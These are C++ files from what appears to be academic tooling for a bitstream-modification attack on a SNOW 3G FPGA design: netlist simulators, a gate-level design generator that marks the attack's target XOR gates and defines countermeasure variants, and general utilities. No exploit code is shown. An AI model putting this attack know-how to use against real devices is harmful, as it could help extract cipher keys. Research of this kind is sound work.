