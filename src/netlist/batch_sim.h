// Bit-sliced 64-lane simulator for Network.
//
// One u64 per net: bit l of a net's value is the net's value in lane l, so
// up to 64 independent stimulus vectors advance through the design per
// settle.  The network is compiled once into a flat evaluation tape —
// same-kind nodes coalesce into runs dispatched with one switch per run
// instead of one per node — and BRAM lookups are evaluated once per block
// per settle by gathering the 32-bit address of every lane.
//
// Semantics match netlist::Simulator lane-for-lane: for any input schedule,
// lane l of this simulator equals a scalar Simulator driven with lane l's
// inputs (tests/test_batch_sim.cpp enforces this on random vectors).
#pragma once

#include <vector>

#include "netlist/netlist.h"

namespace sbm::netlist {

class BatchSimulator {
 public:
  static constexpr unsigned kLanes = 64;

  explicit BatchSimulator(const Network& net);

  /// Broadcasts: drive the same value into every lane.
  void set_input(NodeId input, bool value);
  void set_input_word(const Word& w, u32 value);

  /// Per-lane stimulus.
  void set_input_lanes(NodeId input, u64 lanes) { value_[input] = lanes; }
  void set_input_lane(NodeId input, unsigned lane, bool value);
  void set_input_word_lane(const Word& w, unsigned lane, u32 value);

  void settle();
  void clock();
  void step() {
    settle();
    clock();
  }

  u64 value_lanes(NodeId id) const { return value_[id]; }
  bool value(NodeId id, unsigned lane) const { return ((value_[id] >> lane) & 1) != 0; }
  u32 read_word_lane(const Word& w, unsigned lane) const;

  /// Resets all registers and nets to 0 in every lane.
  void reset();

 private:
  // One tape instruction; `c` is only used by carry cells.
  struct Op {
    NodeId dst;
    NodeId a = kNoNode;
    NodeId b = kNoNode;
    NodeId c = kNoNode;
  };
  struct BramOp {
    NodeId dst;
    u32 bram;
    u8 bit;
  };
  enum class Kind : u8 { kAnd, kOr, kXor, kNot, kCarry, kBram };
  struct Run {
    Kind kind;
    u32 begin;
    u32 end;
  };

  void compile();
  void eval_bram(u32 index);

  const Network& net_;
  std::vector<u64> value_;  // lane vector per net
  std::vector<u64> state_;  // lane vector per DFF

  std::vector<Run> runs_;
  std::vector<Op> ops_;           // kAnd/kOr/kXor/kNot/kCarry operands
  std::vector<BramOp> bram_ops_;  // one per BRAM output bit
  std::vector<u64> bram_out_;     // 32 lane words per BRAM block
  std::vector<u32> bram_stamp_;   // settle stamp of the last block eval
  u32 stamp_ = 0;
};

}  // namespace sbm::netlist
