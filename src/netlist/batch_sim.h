// Bit-sliced lane-parallel simulator for Network.
//
// One lane vector per net: bit l of a net's value is the net's value in lane
// l, so up to lane_count<LV> independent stimulus vectors advance through
// the design per settle.  The network is compiled once into a flat
// evaluation tape — same-kind nodes coalesce into runs dispatched with one
// switch per run instead of one per node — and BRAM lookups are evaluated
// once per block per settle by gathering the 32-bit address of every lane.
//
// The class is templated over the lane-vector type (simd/lane_vec.h):
// BatchSimulator = BatchSimulatorT<u64> is the portable 64-lane reference
// every existing call site uses; the 256/512-lane instantiations live in the
// src/simd/ kernel TUs behind type-erased factories (simd/wide.h) so no
// other TU instantiates code that needs AVX compile flags.
//
// Semantics match netlist::Simulator lane-for-lane: for any input schedule,
// lane l of this simulator equals a scalar Simulator driven with lane l's
// inputs (tests/test_batch_sim.cpp enforces this on random vectors; the
// wide instantiations are differentials in tests/test_simd.cpp).
#pragma once

#include <algorithm>
#include <vector>

#include "netlist/netlist.h"
#include "simd/lane_vec.h"
#include "simd/transpose.h"

namespace sbm::netlist {

template <class LV>
class BatchSimulatorT {
 public:
  static constexpr unsigned kLanes = simd::lane_count<LV>;

  explicit BatchSimulatorT(const Network& net);

  /// Broadcasts: drive the same value into every lane.
  void set_input(NodeId input, bool value) { value_[input] = simd::broadcast<LV>(value); }
  void set_input_word(const Word& w, u32 value) {
    for (unsigned i = 0; i < 32; ++i) set_input(w[i], bit_of(value, i) != 0);
  }

  /// Per-lane stimulus.
  void set_input_lanes(NodeId input, const LV& lanes) { value_[input] = lanes; }
  void set_input_lane(NodeId input, unsigned lane, bool value) {
    simd::set_lane(value_[input], lane, value);
  }
  void set_input_word_lane(const Word& w, unsigned lane, u32 value) {
    for (unsigned i = 0; i < 32; ++i) set_input_lane(w[i], lane, bit_of(value, i) != 0);
  }

  void settle();
  void clock();
  void step() {
    settle();
    clock();
  }

  const LV& value_lanes(NodeId id) const { return value_[id]; }
  bool value(NodeId id, unsigned lane) const { return simd::get_lane(value_[id], lane); }
  u32 read_word_lane(const Word& w, unsigned lane) const {
    u32 v = 0;
    for (unsigned i = 0; i < 32; ++i) v |= u32{value(w[i], lane)} << i;
    return v;
  }

  /// Resets all registers and nets to 0 in every lane.
  void reset();

 private:
  // One tape instruction; `c` is only used by carry cells.
  struct Op {
    NodeId dst;
    NodeId a = kNoNode;
    NodeId b = kNoNode;
    NodeId c = kNoNode;
  };
  struct BramOp {
    NodeId dst;
    u32 bram;
    u8 bit;
  };
  enum class Kind : u8 { kAnd, kOr, kXor, kNot, kCarry, kBram };
  struct Run {
    Kind kind;
    u32 begin;
    u32 end;
  };

  void compile();
  void eval_bram(u32 index);

  const Network& net_;
  std::vector<LV> value_;  // lane vector per net
  std::vector<LV> state_;  // lane vector per DFF

  std::vector<Run> runs_;
  std::vector<Op> ops_;           // kAnd/kOr/kXor/kNot/kCarry operands
  std::vector<BramOp> bram_ops_;  // one per BRAM output bit
  std::vector<LV> bram_out_;      // 32 lane words per BRAM block
  std::vector<u32> bram_stamp_;   // settle stamp of the last block eval
  u32 stamp_ = 0;
};

/// The portable 64-lane reference instantiation (defined in batch_sim.cpp).
using BatchSimulator = BatchSimulatorT<u64>;
extern template class BatchSimulatorT<u64>;

template <class LV>
BatchSimulatorT<LV>::BatchSimulatorT(const Network& net)
    : net_(net), value_(net.node_count(), LV{}), state_(net.node_count(), LV{}) {
  compile();
  reset();
}

template <class LV>
void BatchSimulatorT<LV>::compile() {
  bram_out_.assign(net_.brams().size() * 32, LV{});
  bram_stamp_.assign(net_.brams().size(), 0);

  auto start_run = [this](Kind kind, u32 begin) {
    if (!runs_.empty() && runs_.back().kind == kind) return;
    runs_.push_back({kind, begin, begin});
  };
  for (NodeId id : net_.topo_order()) {
    const Node& n = net_.node(id);
    switch (n.kind) {
      case NodeKind::kConst0:
      case NodeKind::kConst1:
      case NodeKind::kInput:
      case NodeKind::kDff:
        break;  // constants set at reset, inputs testbench-driven, DFFs preloaded
      case NodeKind::kBramOut:
        start_run(Kind::kBram, static_cast<u32>(bram_ops_.size()));
        bram_ops_.push_back({id, n.bram, n.bram_bit});
        runs_.back().end = static_cast<u32>(bram_ops_.size());
        break;
      default: {
        const Kind kind = n.kind == NodeKind::kAnd   ? Kind::kAnd
                          : n.kind == NodeKind::kOr  ? Kind::kOr
                          : n.kind == NodeKind::kXor ? Kind::kXor
                          : n.kind == NodeKind::kNot ? Kind::kNot
                                                     : Kind::kCarry;
        start_run(kind, static_cast<u32>(ops_.size()));
        ops_.push_back({id, n.fanin[0], n.fanin[1], n.fanin[2]});
        runs_.back().end = static_cast<u32>(ops_.size());
        break;
      }
    }
  }
}

template <class LV>
void BatchSimulatorT<LV>::eval_bram(u32 index) {
  // Per 64-lane word: transpose the 32 input vectors into per-lane
  // addresses, evaluate the opaque table per lane, transpose back (see
  // simd/transpose.h — the naive per-lane bit gather is ~10x slower).
  const Bram& b = net_.brams()[index];
  LV* out = &bram_out_[size_t{index} * 32];
  for (unsigned w = 0; w < simd::lane_traits<LV>::kWords; ++w) {
    u64 in[32];
    for (unsigned i = 0; i < 32; ++i) {
      in[i] = simd::lane_traits<LV>::word(value_[b.inputs[i]], w);
    }
    u32 addr[64];
    simd::gather_addresses(in, addr);
    u32 o[64];
    for (unsigned l = 0; l < 64; ++l) o[l] = b.eval(addr[l]);
    u64 ow[32];
    simd::scatter_outputs(o, ow);
    for (unsigned i = 0; i < 32; ++i) simd::lane_traits<LV>::word(out[i], w) = ow[i];
  }
}

template <class LV>
void BatchSimulatorT<LV>::settle() {
  ++stamp_;
  for (NodeId dff : net_.dffs()) value_[dff] = state_[dff];
  for (const Run& r : runs_) {
    switch (r.kind) {
      case Kind::kAnd:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = value_[o.a] & value_[o.b];
        }
        break;
      case Kind::kOr:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = value_[o.a] | value_[o.b];
        }
        break;
      case Kind::kXor:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = value_[o.a] ^ value_[o.b];
        }
        break;
      case Kind::kNot:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          value_[o.dst] = ~value_[o.a];
        }
        break;
      case Kind::kCarry:
        for (u32 i = r.begin; i < r.end; ++i) {
          const Op& o = ops_[i];
          const LV a = value_[o.a], b = value_[o.b], c = value_[o.c];
          value_[o.dst] = (a & b) | (c & (a ^ b));
        }
        break;
      case Kind::kBram:
        for (u32 i = r.begin; i < r.end; ++i) {
          const BramOp& o = bram_ops_[i];
          if (bram_stamp_[o.bram] != stamp_) {
            eval_bram(o.bram);
            bram_stamp_[o.bram] = stamp_;
          }
          value_[o.dst] = bram_out_[size_t{o.bram} * 32 + o.bit];
        }
        break;
    }
  }
}

template <class LV>
void BatchSimulatorT<LV>::clock() {
  for (NodeId dff : net_.dffs()) {
    const NodeId d = net_.node(dff).fanin[0];
    state_[dff] = d == kNoNode ? LV{} : value_[d];
  }
}

template <class LV>
void BatchSimulatorT<LV>::reset() {
  std::fill(value_.begin(), value_.end(), LV{});
  std::fill(state_.begin(), state_.end(), LV{});
  value_[net_.const1()] = simd::ones<LV>();
  // stamp_ deliberately kept: BRAM caches are per-settle, not per-reset.
}

}  // namespace sbm::netlist
