// Cycle-accurate two-valued simulator for Network.
//
// Evaluation model: primary inputs are driven by the testbench, DFFs expose
// their current state as sources, all combinational logic (including BRAM
// lookups) settles within the cycle, and clock() latches every DFF's D
// input simultaneously.  This matches a single-clock synchronous design.
#pragma once

#include <vector>

#include "netlist/netlist.h"

namespace sbm::netlist {

class Simulator {
 public:
  explicit Simulator(const Network& net);

  void set_input(NodeId input, bool value);
  void set_input_word(const Word& w, u32 value);

  /// Settles combinational logic for the current inputs and register state.
  void settle();

  /// Latches all DFFs (call after settle()).
  void clock();

  /// settle() + clock().
  void step() {
    settle();
    clock();
  }

  bool value(NodeId id) const { return value_[id] != 0; }
  u32 read_word(const Word& w) const;

  /// Resets all registers to 0 and clears inputs.
  void reset();

 private:
  const Network& net_;
  std::vector<u8> value_;  // current net values
  std::vector<u8> state_;  // DFF state
};

}  // namespace sbm::netlist
