// Gate-level Boolean network N = (V, E) (paper Section II), the input of
// FPGA technology mapping.
//
// Node kinds: primary inputs, constants, 2-input gates, inverters, D
// flip-flops and BRAM ports.  BRAMs model the block-RAM S-box lookups of the
// paper's implementation ("the S-box is evaluated by a BRAM lookup"); their
// contents never appear in the LUT fabric, exactly as on the real device.
//
// The builder interface works on 32-bit "words" (arrays of 32 nets) so that
// the SNOW 3G datapath can be described at the level of Fig. 2/3 while still
// producing individual gates for the mapper.
#pragma once

#include <array>
#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "common/bits.h"

namespace sbm::netlist {

using NodeId = u32;
inline constexpr NodeId kNoNode = 0xffffffffu;

enum class NodeKind : u8 {
  kConst0,
  kConst1,
  kInput,
  kAnd,
  kOr,
  kXor,
  kNot,
  kCarry,   // dedicated carry-chain cell: MAJ(fanin0, fanin1, fanin2)
  kDff,     // sequential element; fanin[0] is D, Q is the node value
  kBramOut  // one output bit of a BRAM block; fanin unused, see Bram
};

struct Node {
  NodeKind kind = NodeKind::kConst0;
  std::array<NodeId, 3> fanin = {kNoNode, kNoNode, kNoNode};
  u32 bram = 0;      // kBramOut: index of the Bram block
  u8 bram_bit = 0;   // kBramOut: which output bit
  bool keep = false; // DONT_TOUCH: must be covered by a trivial cut
};

/// A 32->32 synchronous-free lookup block (S-box in BRAM).
struct Bram {
  std::string name;
  std::array<NodeId, 32> inputs{};   // bit 0 = LSB
  std::array<NodeId, 32> outputs{};  // kBramOut nodes
  std::function<u32(u32)> eval;
};

/// A 32-bit bundle of nets, bit 0 = LSB.
using Word = std::array<NodeId, 32>;

class Network {
 public:
  Network();

  NodeId const0() const { return const0_; }
  NodeId const1() const { return const1_; }

  NodeId add_input(std::string name);
  NodeId add_gate(NodeKind kind, NodeId a, NodeId b);
  NodeId add_not(NodeId a);
  /// Dedicated carry cell (CARRY4-style): computes the majority of a, b and
  /// cin.  Carry cells are not absorbed into LUTs by the mapper and have
  /// their own (small) delay in STA, like a real slice carry chain.
  NodeId add_carry(NodeId a, NodeId b, NodeId cin);
  NodeId add_dff(std::string name);
  /// Sets the D input of a DFF after its Q has been used (registers form
  /// cycles).
  void connect_dff(NodeId dff, NodeId d);

  /// Adds a BRAM lookup block; returns its index.  Output nets are created
  /// eagerly.
  u32 add_bram(std::string name, const Word& inputs, std::function<u32(u32)> eval);

  void add_output(std::string name, NodeId node);
  void add_output_word(const std::string& name, const Word& w);

  void set_keep(NodeId node, bool keep = true) { nodes_[node].keep = keep; }

  // --- word-level builder -------------------------------------------------
  Word add_input_word(const std::string& name);
  Word add_dff_word(const std::string& name);
  Word const_word(u32 value);
  Word xor_word(const Word& a, const Word& b);
  Word and_scalar(const Word& a, NodeId s);
  Word mux_word(NodeId sel, const Word& when1, const Word& when0);
  Word not_word(const Word& a);
  /// Ripple-carry adder modulo 2^32 (the spec's boxplus).
  Word add32(const Word& a, const Word& b);
  /// Balanced XOR tree over an arbitrary set of nets (empty -> const0).
  NodeId xor_tree(std::vector<NodeId> nets);

  // --- access ---------------------------------------------------------------
  size_t node_count() const { return nodes_.size(); }
  const Node& node(NodeId id) const { return nodes_[id]; }
  const std::vector<Bram>& brams() const { return brams_; }
  const std::vector<std::pair<std::string, NodeId>>& outputs() const { return outputs_; }
  const std::vector<NodeId>& inputs() const { return inputs_; }
  const std::string& name_of(NodeId id) const;

  /// Combinational nodes in topological order (inputs/constants/DFF Qs and
  /// BRAM outputs come first; each gate after its fanins; BRAM outputs after
  /// every input of their block).  Cached; invalidated by structural edits.
  const std::vector<NodeId>& topo_order() const;

  /// Number of gates (AND/OR/XOR/NOT).
  size_t gate_count() const;
  size_t dff_count() const { return dff_ids_.size(); }
  const std::vector<NodeId>& dffs() const { return dff_ids_; }

 private:
  NodeId add_node(Node n);

  std::vector<Node> nodes_;
  std::vector<Bram> brams_;
  std::vector<NodeId> inputs_;
  std::vector<NodeId> dff_ids_;
  std::vector<std::pair<std::string, NodeId>> outputs_;
  std::vector<std::pair<NodeId, std::string>> names_;
  NodeId const0_ = 0;
  NodeId const1_ = 0;
  mutable std::vector<NodeId> topo_cache_;
};

}  // namespace sbm::netlist
