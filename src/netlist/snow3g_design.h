// Structural (gate-level) SNOW 3G design generator — the "VHDL
// implementation" under attack, expressed as a Boolean network.
//
// Architecture (Fig. 2/3 of the paper):
//   * 16 x 32 LFSR stage registers s0..s15, 3 x 32 FSM registers R1..R3.
//   * Control inputs `load`, `init`, `gen` driven by the host, exactly one
//     asserted per cycle:
//       load: S <- gamma(K, IV) (built from the key/IV inputs), FSM <- 0.
//       init: LFSR feedback consumes the FSM word W (initialization round).
//       gen : keystream mode; z = s0 xor W is valid on the output.
//   * The target node v of the paper is the 32 2-input XOR gates
//     v[i] = add2[i] xor R2[i] computing the FSM output word
//     W = (s15 boxplus R1) xor R2, shared by the z_t path and (gated by
//     `init`) by the LFSR feedback path.
//   * MUL_alpha / DIV_alpha are GF(2)-linear and are instantiated as XOR
//     trees; S1/S2 are BRAM lookups (kept out of the LUT fabric).
//   * Key and IV enter as inputs; the key is stored in the bitstream (attack
//     model assumption 2) and wired to these inputs by the device model.
//
// The protected variant additionally marks the 32 target XORs v and five
// other 32-bit XOR vectors with DONT_TOUCH (keep), forcing the mapper to
// cover them with trivial cuts (the countermeasure of Section VII).
#pragma once

#include "netlist/netlist.h"

namespace sbm::netlist {

struct Snow3gDesign {
  Network net;

  // Interface nets.
  std::array<Word, 4> key;  // k0..k3
  std::array<Word, 4> iv;   // iv0..iv3
  NodeId load = kNoNode;
  NodeId init = kNoNode;
  NodeId gen = kNoNode;
  Word z{};  // keystream output

  // Ground-truth bookkeeping for evaluating the attack (never consulted by
  // the attack code itself).
  std::array<NodeId, 32> target_v{};        // the paper's node v, bit i
  std::vector<NodeId> decoy_xors;           // protected variant: 5 x 32 XORs
  std::array<NodeId, 32> zpath_xor{};       // z[i] = s0[i] xor v[i] gates
  std::array<NodeId, 32> feedback_inject{}; // s15.D path XOR consuming v
  // Equalized variant: the three kept XOR2 copies c1..c3 per bit whose XOR
  // reconstitutes v[i]; empty otherwise.
  std::array<std::array<NodeId, 3>, 32> target_copies{};
  bool protected_variant = false;
  bool equalized = false;
};

/// Builds the unprotected design (Section VI).
Snow3gDesign build_snow3g_design();

/// Builds the protected design (Section VII): target + decoy XORs are marked
/// keep so the mapper covers them with trivial cuts.
Snow3gDesign build_protected_snow3g_design();

/// Builds the response-equalized protected design: instead of one kept
/// target XOR per bit, three kept copies c1..c3 = add2[i] xor R2[i] feed an
/// unkept 3-input XOR that reconstitutes v[i].  Zeroing any one copy zeroes
/// v[i] (c_j ^ c_k = 0 for the surviving pair), so every copy produces the
/// *same* source-cut keystream response — an adaptive oracle cannot tell
/// which placement is "the" target, only identify the 3-element class.
Snow3gDesign build_equalized_snow3g_design();

}  // namespace sbm::netlist
