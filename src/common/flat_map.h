// Open-addressing hash map for the hot lookup structures.
//
// std::unordered_map costs one heap node and at least two dependent cache
// misses per probe; the structures on the attack's hot paths (the probe
// cache shards, the pattern-index dedup sets) only ever need insert, find
// and clear.  FlatMap keeps keys and values in two flat arrays with linear
// probing over a power-of-two capacity — one predictable memory stream per
// lookup — and clear() keeps the allocation, so per-candidate reuse does not
// churn the allocator.
//
// No erase.  The hash must already be well-mixed (capacity masks keep only
// the low bits): pass U64MixHash for integer keys, or any hasher whose low
// bits spread — see common/bits.h mix64.
#pragma once

#include <cstddef>
#include <functional>
#include <utility>
#include <vector>

#include "common/bits.h"

namespace sbm {

/// Hasher for u64 keys feeding power-of-two tables (identity std::hash would
/// cluster whole buckets on the masked low bits).
struct U64MixHash {
  size_t operator()(u64 k) const { return static_cast<size_t>(mix64(k)); }
};

template <class Key, class Value, class Hash = std::hash<Key>, class Eq = std::equal_to<Key>>
class FlatMap {
 public:
  FlatMap() = default;

  size_t size() const { return size_; }
  bool empty() const { return size_ == 0; }

  /// Pointer to the mapped value, or nullptr when absent.
  Value* find(const Key& key) {
    if (size_ == 0) return nullptr;
    const size_t mask = keys_.size() - 1;
    size_t i = Hash{}(key)&mask;
    while (used_[i]) {
      if (Eq{}(keys_[i], key)) return &values_[i];
      i = (i + 1) & mask;
    }
    return nullptr;
  }
  const Value* find(const Key& key) const { return const_cast<FlatMap*>(this)->find(key); }

  /// Inserts (key, value) if absent.  Returns the slot and whether this call
  /// inserted it — the unordered_map::try_emplace contract the call sites
  /// already use.
  std::pair<Value*, bool> try_emplace(const Key& key, Value value = Value{}) {
    if (keys_.empty() || size_ * 4 >= keys_.size() * 3) grow();
    const size_t mask = keys_.size() - 1;
    size_t i = Hash{}(key)&mask;
    while (used_[i]) {
      if (Eq{}(keys_[i], key)) return {&values_[i], false};
      i = (i + 1) & mask;
    }
    used_[i] = 1;
    keys_[i] = key;
    values_[i] = std::move(value);
    ++size_;
    return {&values_[i], true};
  }

  /// Drops every entry but keeps the capacity (hot-loop reuse).
  void clear() {
    if (size_ == 0) return;
    std::fill(used_.begin(), used_.end(), u8{0});
    size_ = 0;
  }

  /// Visits every (key, value) pair in unspecified order.
  template <class Fn>
  void for_each(Fn&& fn) const {
    for (size_t i = 0; i < keys_.size(); ++i) {
      if (used_[i]) fn(keys_[i], values_[i]);
    }
  }

 private:
  void grow() {
    const size_t cap = keys_.empty() ? 16 : keys_.size() * 2;
    std::vector<Key> old_keys = std::move(keys_);
    std::vector<Value> old_values = std::move(values_);
    std::vector<u8> old_used = std::move(used_);
    keys_.assign(cap, Key{});
    values_.assign(cap, Value{});
    used_.assign(cap, 0);
    const size_t mask = cap - 1;
    for (size_t i = 0; i < old_used.size(); ++i) {
      if (!old_used[i]) continue;
      size_t j = Hash{}(old_keys[i]) & mask;
      while (used_[j]) j = (j + 1) & mask;
      used_[j] = 1;
      keys_[j] = std::move(old_keys[i]);
      values_[j] = std::move(old_values[i]);
    }
  }

  std::vector<Key> keys_;
  std::vector<Value> values_;
  std::vector<u8> used_;  // separate byte array: probe scans touch it only
  size_t size_ = 0;
};

}  // namespace sbm
