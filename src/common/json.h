// Minimal JSON emission for machine-readable reports (campaign summaries,
// bench artifacts).  Writer only — nothing in this codebase consumes JSON —
// with just enough structure tracking to guarantee well-formed output:
// commas, key/value alternation and brace balance are handled here, string
// escaping covers the control range, and doubles round-trip via %.17g.
#pragma once

#include <string>

#include "common/bits.h"

namespace sbm {

class JsonWriter {
 public:
  JsonWriter& begin_object();
  JsonWriter& end_object();
  JsonWriter& begin_array();
  JsonWriter& end_array();

  /// Key inside an object; must be followed by a value or container.
  JsonWriter& key(const std::string& name);

  JsonWriter& value(const std::string& s);
  JsonWriter& value(const char* s);
  JsonWriter& value(bool b);
  JsonWriter& value(double d);
  JsonWriter& value(u64 v);  // also covers size_t on LP64
  JsonWriter& value(u32 v) { return value(u64{v}); }
  JsonWriter& value(int v);

  /// key + value in one call.
  template <typename T>
  JsonWriter& field(const std::string& name, T&& v) {
    key(name);
    return value(std::forward<T>(v));
  }

  /// The document so far.  Well-formed once every container is closed.
  const std::string& str() const { return out_; }

 private:
  void comma();
  void append_escaped(const std::string& s);

  std::string out_;
  /// Stack of open containers: 'o' = object expecting key, 'v' = object
  /// expecting value, 'a' = array.
  std::string stack_;
  bool need_comma_ = false;
};

}  // namespace sbm
