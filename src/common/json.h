// Minimal JSON emission and parsing for machine-readable artifacts
// (campaign summaries, bench baselines, attack/campaign checkpoints).
//
// JsonWriter tracks just enough structure to guarantee well-formed output:
// commas, key/value alternation and brace balance are handled here, string
// escaping covers the control range, and doubles round-trip via %.17g.
//
// JsonValue/parse_json is the matching reader, grown for checkpoint/resume.
// Numbers keep their source token so 64-bit integers (seeds, fingerprints)
// round-trip exactly instead of being squeezed through a double.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "common/bits.h"

namespace sbm {

class JsonWriter {
 public:
  JsonWriter& begin_object();
  JsonWriter& end_object();
  JsonWriter& begin_array();
  JsonWriter& end_array();

  /// Key inside an object; must be followed by a value or container.
  JsonWriter& key(const std::string& name);

  JsonWriter& value(const std::string& s);
  JsonWriter& value(const char* s);
  JsonWriter& value(bool b);
  JsonWriter& value(double d);
  JsonWriter& value(u64 v);  // also covers size_t on LP64
  JsonWriter& value(u32 v) { return value(u64{v}); }
  JsonWriter& value(int v);

  /// Appends a pre-serialized JSON value verbatim (comma/structure handling
  /// as for value()).  The caller guarantees `json` is one well-formed
  /// value; used to embed already-rendered documents (campaign reports
  /// inside service responses) without a parse/dump round trip.
  JsonWriter& raw_value(std::string_view json);

  /// key + value in one call.
  template <typename T>
  JsonWriter& field(const std::string& name, T&& v) {
    key(name);
    return value(std::forward<T>(v));
  }

  /// The document so far.  Well-formed once every container is closed.
  const std::string& str() const { return out_; }

 private:
  void comma();
  void append_escaped(const std::string& s);

  std::string out_;
  /// Stack of open containers: 'o' = object expecting key, 'v' = object
  /// expecting value, 'a' = array.
  std::string stack_;
  bool need_comma_ = false;
};

/// A parsed JSON document node.  Object members keep document order (the
/// writer emits ordered objects, e.g. per-phase run counts).
struct JsonValue {
  enum class Kind : u8 { kNull, kBool, kNumber, kString, kArray, kObject };

  Kind kind = Kind::kNull;
  bool boolean = false;
  /// Numbers keep the raw token; as_u64/as_double parse lazily, losslessly.
  std::string number;
  std::string string;
  std::vector<JsonValue> items;                              // kArray
  std::vector<std::pair<std::string, JsonValue>> members;    // kObject

  bool is_object() const { return kind == Kind::kObject; }
  bool is_array() const { return kind == Kind::kArray; }

  /// Member lookup on objects; nullptr when absent or not an object.
  const JsonValue* find(std::string_view key) const;

  /// Typed accessors; return the fallback on kind mismatch.
  u64 as_u64(u64 fallback = 0) const;
  double as_double(double fallback = 0) const;
  bool as_bool(bool fallback = false) const;
  const std::string& as_string() const { return string; }

  /// Compact serialization.  Number tokens are re-emitted verbatim (never
  /// re-parsed through a double), strings are re-escaped canonically, so
  /// parse -> dump reaches a fixpoint after one round trip:
  /// dump(parse(dump(parse(x)))) == dump(parse(x)) for every valid x.
  std::string dump() const;
};

/// Parses one JSON document (trailing whitespace allowed, nothing else).
/// Returns nullopt on malformed input.  Handles the subset JsonWriter
/// emits, plus standard escapes including \uXXXX for the BMP.
std::optional<JsonValue> parse_json(std::string_view text);

}  // namespace sbm
