#include "common/hex.h"

#include <stdexcept>

namespace sbm {
namespace {

constexpr char kDigits[] = "0123456789abcdef";

int nibble_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  throw std::invalid_argument("invalid hex digit");
}

}  // namespace

std::string hex32(u32 w) {
  std::string out(8, '0');
  for (int i = 7; i >= 0; --i) {
    out[static_cast<size_t>(i)] = kDigits[w & 0xfu];
    w >>= 4;
  }
  return out;
}

std::string hex_bytes(std::span<const u8> bytes) {
  std::string out;
  out.reserve(bytes.size() * 2);
  for (u8 b : bytes) {
    out.push_back(kDigits[b >> 4]);
    out.push_back(kDigits[b & 0xfu]);
  }
  return out;
}

u32 parse_hex32(std::string_view s) {
  if (s.size() != 8) throw std::invalid_argument("hex32 needs 8 digits");
  u32 w = 0;
  for (char c : s) w = (w << 4) | static_cast<u32>(nibble_value(c));
  return w;
}

std::vector<u8> parse_hex_bytes(std::string_view s) {
  if (s.size() % 2 != 0) throw std::invalid_argument("odd hex length");
  std::vector<u8> out;
  out.reserve(s.size() / 2);
  for (size_t i = 0; i < s.size(); i += 2) {
    out.push_back(static_cast<u8>((nibble_value(s[i]) << 4) | nibble_value(s[i + 1])));
  }
  return out;
}

}  // namespace sbm
