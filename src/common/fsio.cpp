#include "common/fsio.h"

#include <cstdio>

#ifdef _WIN32
#include <io.h>
#else
#include <unistd.h>
#endif

namespace sbm {

std::optional<std::string> read_file(const std::string& path) {
  std::FILE* f = std::fopen(path.c_str(), "rb");
  if (f == nullptr) return std::nullopt;
  std::string data;
  char buf[4096];
  size_t n = 0;
  while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) data.append(buf, n);
  const bool ok = std::ferror(f) == 0;
  std::fclose(f);
  if (!ok) return std::nullopt;
  return data;
}

bool write_file(const std::string& path, std::string_view data) {
  std::FILE* f = std::fopen(path.c_str(), "wb");
  if (f == nullptr) return false;
  const bool wrote = std::fwrite(data.data(), 1, data.size(), f) == data.size();
  const bool closed = std::fclose(f) == 0;
  return wrote && closed;
}

bool write_file_atomic(const std::string& path, std::string_view data) {
  const std::string tmp = path + ".tmp";
  std::FILE* f = std::fopen(tmp.c_str(), "wb");
  if (f == nullptr) return false;
  bool ok = std::fwrite(data.data(), 1, data.size(), f) == data.size();
  ok = std::fflush(f) == 0 && ok;
#ifndef _WIN32
  // The rename is only atomic-on-crash if the temp file's bytes are on disk
  // before the directory entry moves.
  ok = fsync(fileno(f)) == 0 && ok;
#endif
  ok = std::fclose(f) == 0 && ok;
  if (!ok || std::rename(tmp.c_str(), path.c_str()) != 0) {
    std::remove(tmp.c_str());
    return false;
  }
  return true;
}

}  // namespace sbm
