// Whole-file I/O with a crash-safe write path.
//
// write_file_atomic is the one write primitive durable artifacts (campaign
// checkpoints, service job records) are allowed to use: the bytes go to
// `path + ".tmp"`, are flushed and fsync'd, and only then renamed over the
// destination.  A process killed at any instant therefore leaves either the
// old complete file or the new complete file — never a truncated hybrid —
// which is what lets the campaign daemon resume from its job store after a
// hard kill (DESIGN.md §4h).
#pragma once

#include <optional>
#include <string>
#include <string_view>

namespace sbm {

/// Reads the whole file; nullopt when it is absent or unreadable.
std::optional<std::string> read_file(const std::string& path);

/// Plain whole-file write (reports, traces — artifacts a crash may lose).
bool write_file(const std::string& path, std::string_view data);

/// Crash-safe whole-file write: temp + flush + fsync + rename.  On failure
/// the temp file is removed and `path` is untouched.
bool write_file_atomic(const std::string& path, std::string_view data);

}  // namespace sbm
