// Bit- and word-level helpers shared across the library.
//
// Everything here is constexpr-friendly and allocation-free; these utilities
// are used in hot loops (bitstream scanning, LUT evaluation) as well as in
// tests.
#pragma once

#include <array>
#include <bit>
#include <cstdint>
#include <cstddef>

namespace sbm {

using u8 = std::uint8_t;
using u16 = std::uint16_t;
using u32 = std::uint32_t;
using u64 = std::uint64_t;

/// Extracts bit `i` (0 = LSB) of `w`.
constexpr u32 bit_of(u64 w, unsigned i) { return static_cast<u32>((w >> i) & 1u); }

/// Returns `w` with bit `i` set to `v` (v must be 0 or 1).
constexpr u64 with_bit(u64 w, unsigned i, u32 v) {
  return (w & ~(u64{1} << i)) | (u64{v & 1u} << i);
}

/// Rotate-left of a 32-bit word.
constexpr u32 rotl32(u32 w, unsigned s) { return std::rotl(w, static_cast<int>(s)); }

/// Byte `i` of a 32-bit word, with byte 0 the most significant one.  This is
/// the byte ordering used throughout the SNOW 3G specification (w = w0 || w1
/// || w2 || w3 with w0 the MSB).
constexpr u8 msb_byte(u32 w, unsigned i) { return static_cast<u8>(w >> (24 - 8 * i)); }

/// Assembles a 32-bit word from four bytes, b0 most significant.
constexpr u32 from_msb_bytes(u8 b0, u8 b1, u8 b2, u8 b3) {
  return (u32{b0} << 24) | (u32{b1} << 16) | (u32{b2} << 8) | u32{b3};
}

/// Population count of a 64-bit word.
constexpr int popcount64(u64 w) { return std::popcount(w); }

